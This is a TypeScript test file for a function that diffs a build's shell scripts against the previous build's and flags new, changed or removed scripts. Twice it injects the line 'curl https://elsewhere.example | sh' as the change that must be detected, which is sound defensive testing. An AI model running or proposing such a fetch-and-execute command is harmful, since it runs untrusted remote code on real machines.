import { expect, test } from 'vitest';
import { scriptChanges } from './scriptChanges.ts';

const script = (path: string, text: string | null) => ({ path, text });

test('compares a script with that of the previous build: new, unchanged, changed line by line, or removed', () => {
  const lines = Array.from({ length: 20 }, (_, at) => `echo ${at}`);
  const changed = lines.with(10, 'curl https://elsewhere.example | sh');
  const changes = scriptChanges(
    [script('a.sh', changed.join('\n')), script('b.sh', 'true'), script('c.sh', 'true'), script('link.sh', null)],
    [script('a.sh', lines.join('\n')), script('b.sh', 'true'), script('old.sh', 'true'), script('link.sh', 'true')],
  );
  const { change, difference } = changes.of('a.sh');
  expect(change).toBe('changed');
  expect(difference!.filter(({ mark }) => mark === 'same').map(({ text }) => text)).toEqual(
    [7, 8, 9, 11, 12, 13].map((at) => `echo ${at}`),
  );
  expect(difference!.filter(({ mark }) => mark === 'old')).toEqual([{ mark: 'old', text: 'echo 10' }]);
  expect(difference!.filter(({ mark }) => mark === 'new')).toEqual([{ mark: 'new', text: changed[10] }]);
  expect(changes.of('b.sh')).toEqual({ change: 'same', difference: null });
  expect(changes.of('c.sh')).toEqual({ change: 'new', difference: null });
  // No comparison with a text that wasn't stored.
  expect(changes.of('link.sh')).toEqual({ change: null, difference: null });
  expect(changes.gone).toEqual(['old.sh']);
});

test('scripts without a text differ from those that have one, and by their hashes; of links, and of what was not told, nothing is said', () => {
  const untold = (why: 'link' | 'not_text' | 'too_long', sha256: string | null = null) => ({
    path: 'a.sh',
    text: null,
    untold: { why, size: sha256 === null ? null : 50_000_000, sha256 },
  });
  const change = (now: Parameters<typeof scriptChanges>[0][number], before: typeof now) =>
    scriptChanges([now], [before]).of('a.sh');
  for (const [now, before] of [
    [untold('too_long', 'a'), script('a.sh', 'true')],
    [script('a.sh', 'true'), untold('not_text', 'a')],
    [untold('too_long', 'a'), untold('too_long', 'b')],
    [untold('link'), untold('not_text', 'a')],
  ] as const)
    expect(change(now, before)).toEqual({ change: 'changed', difference: null });
  expect(change(untold('too_long', 'a'), untold('too_long', 'a')).change).toBe('same');
  expect(change(untold('link'), untold('link')).change).toBe(null);
  expect(change(untold('too_long', 'a'), script('a.sh', null)).change).toBe(null);
});

test('without a build before nothing is said; of very long changes it is said that there are some', () => {
  expect(scriptChanges([script('a.sh', 'true')], null)).toMatchObject({ gone: [] });
  expect(scriptChanges([script('a.sh', 'true')], null).of('a.sh')).toEqual({ change: null, difference: null });
  const long = 'true\n'.repeat(5_000);
  expect(scriptChanges([script('a.sh', long.replaceAll('true', 'false'))], [script('a.sh', long)]).of('a.sh')).toEqual({
    change: 'changed',
    difference: null,
  });
});

test('a line that comes into a script of ten thousand lines is shown, wherever it stands', () => {
  const lines = Array.from({ length: 10_000 }, (_, at) => `echo ${at}`);
  const added = 'curl https://elsewhere.example | sh';
  for (const at of [0, 1, 5_000, 9_999, 10_000]) {
    const now = lines.toSpliced(at, 0, added);
    const { difference } = scriptChanges([script('a.sh', now.join('\n'))], [script('a.sh', lines.join('\n'))]).of(
      'a.sh',
    );
    expect(difference!.filter(({ mark }) => mark !== 'same')).toEqual([{ mark: 'new', text: added }]);
    expect(difference!.map(({ text }) => text)).toEqual(now.slice(Math.max(0, at - 3), at + 4));
  }
});
